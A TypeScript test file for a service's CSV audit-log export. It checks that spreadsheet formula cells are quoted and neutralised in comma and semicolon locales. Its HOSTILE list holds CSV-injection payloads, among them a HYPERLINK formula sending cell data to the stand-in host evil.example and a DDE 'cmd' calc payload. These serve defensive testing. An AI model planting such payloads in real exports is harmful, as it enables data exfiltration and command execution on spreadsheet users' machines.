import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { timeOrderedId } from '../src/domain/ids.js';
import { csvCell } from '../src/http/csv.js';
import { databaseKinds } from './support/databases.js';
import { makeOrg, makePerson, makeToken } from './support/harness.js';
import { startLive, type LiveHarness } from './support/live.js';

// Catalog X12: CSV injection in the audit export, for comma and semicolon locales. Excel in a
// semicolon locale (German, French, …) splits rows at every `;` and honours a quote only at the
// start of a cell, so `a;=cmd|…` in one of our cells becomes a formula cell there.

/** A spreadsheet's reading of CSV text: cells split at `sep` and line ends; quotes count only at a cell's start. */
function readAs(text: string, sep: ',' | ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let atStart = true;
  while (i < text.length) {
    const c = text[i]!;
    if (atStart && c === '"') {
      // A quoted cell: up to the closing quote, `""` being a quote; anything after it is appended.
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else cell += text[i++];
      }
      atStart = false;
      continue;
    }
    atStart = false;
    if (c === sep) {
      row.push(cell);
      cell = '';
      atStart = true;
      i++;
    } else if (c === '\r' || c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      atStart = true;
      i += c === '\r' && text[i + 1] === '\n' ? 2 : 1;
    } else {
      cell += c;
      i++;
    }
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** What a spreadsheet runs as a formula (leading spaces are skipped by some). */
const FORMULA = /^[ ]*[=+\-@\t\r]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR first',
  '  =1+1',
  "ua;=cmd|' /C calc'!A0",
  'a;b;c',
  'x;"=1+1"',
  'x; @SUM(1)',
  'multi\r\n=2+2',
  'line\n-3',
  'fine, with "quotes"',
  'plain',
];

for (const kind of databaseKinds()) {
  describe(`X12: CSV export in comma and semicolon locales (${kind})`, () => {
    let h: LiveHarness;
    before(async () => {
      h = await startLive(kind);
    });
    after(async () => h.close());

    it('X12: cells beginning with =, +, -, @, tab or CR, or containing ;, are quoted and neutralised for comma and semicolon locales', async () => {
      const alice = await makePerson(h);
      const org = await makeOrg(h, alice.user);
      // Outsiders choose the User-Agent recorded when they try a dead token: one revoked token per value.
      for (const ua of HOSTILE.filter((v) => !/^ |[\r\n\t]/.test(v))) {
        const t = await makeToken(h, { kind: 'user', user: alice.user, token: null }, { type: 'organization', org: org.name }, { name: `t${Math.random().toString(36).slice(2, 8)}` });
        assert.equal((await h.http('DELETE', `/api/orgs/${org.name}/tokens/${t.id}`, { token: alice.token })).status, 204);
        h.clock.advance(1000);
        const refused = await h.http('GET', '/api/user', { token: t.value, headers: { 'user-agent': ua } });
        assert.equal(refused.status, 401, refused.text);
      }
      // What no HTTP header carries (tab, CR, LF, leading spaces, which are trimmed), straight into the store.
      for (const ua of HOSTILE.filter((v) => /^ |[\r\n\t]/.test(v))) {
        h.clock.advance(1000);
        await h.deps.store.insertAudit({
          id: timeOrderedId(h.clock.now()),
          occurredAt: h.clock.now(),
          orgId: org.id,
          action: 'odd_agent',
          actorUserId: null,
          actorLogin: 'system',
          tokenId: null,
          tokenName: ua,
          targetType: null,
          targetId: null,
          targetName: ua,
          sourceIp: null,
          userAgent: ua,
          requestId: null,
          details: null,
        });
      }

      const res = await h.http('GET', `/api/orgs/${org.name}/auditlogs/export?format=csv`, { token: alice.token });
      assert.equal(res.status, 200, res.text);
      assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');

      // Comma locales: every row has the header's width, and every hostile value is there, neutralised.
      const comma = readAs(res.text, ',');
      assert.ok(comma.length > HOSTILE.length);
      for (const r of comma) assert.equal(r.length, comma[0]!.length, JSON.stringify(r));
      const agents = comma.slice(1).map((r) => r[8]!);
      for (const value of HOSTILE) {
        const cell = csvCell(value);
        assert.ok(res.text.includes(cell), `the export holds ${JSON.stringify(cell)}`);
        if (FORMULA.test(value) || value.includes(';')) assert.ok(cell.startsWith('"'), `${JSON.stringify(value)} is quoted`);
        // Only single quotes were added: the value reads back whole.
        const read = agents.find((a) => a.replace(/'/g, '') === value.replace(/'/g, ''));
        assert.ok(read !== undefined, `${JSON.stringify(value)} reads back`);
      }

      // Both locales: no cell a spreadsheet would run.
      for (const [name, rows] of [['comma', comma], ['semicolon', readAs(res.text, ';')]] as const) {
        for (const cell of rows.flat()) assert.ok(!FORMULA.test(cell), `${name} locale reads a formula cell: ${JSON.stringify(cell)}`);
      }
    });
  });
}
